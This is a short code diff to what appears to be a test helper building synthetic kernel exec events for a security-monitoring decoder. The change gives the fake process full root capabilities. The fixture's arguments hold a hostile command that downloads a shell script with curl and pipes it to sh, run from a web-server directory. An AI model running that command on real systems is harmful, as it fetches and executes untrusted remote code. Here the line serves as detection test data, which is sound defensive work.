@@ -28,7 +28,10 @@ function execOf(pid: number): Uint8Array {
   const start = BigInt(pid) * SECOND;
   const actor = { pid, startNs: start, ppid: pid - 1, parentStartNs: start - SECOND, comm: "bash" };
   const args = Buffer.from("bash\0-c\0curl -s http://10.0.0.1/x.sh | sh\0");
-  return new Uint8Array(execRecord(actor, { path: "/usr/bin/bash", cwd: "/var/www/html", filename: "/bin/bash", args }));
+  // As a daemon of root has them: all.
+  const all = (1n << 41n) - 1n;
+  const parts = { path: "/usr/bin/bash", cwd: "/var/www/html", filename: "/bin/bash", args, effective: all, permitted: all };
+  return new Uint8Array(execRecord(actor, parts));
 }
 
 function decodeExec(bytes: Uint8Array): Extract<KernelEvent, { kind: "exec" }> {
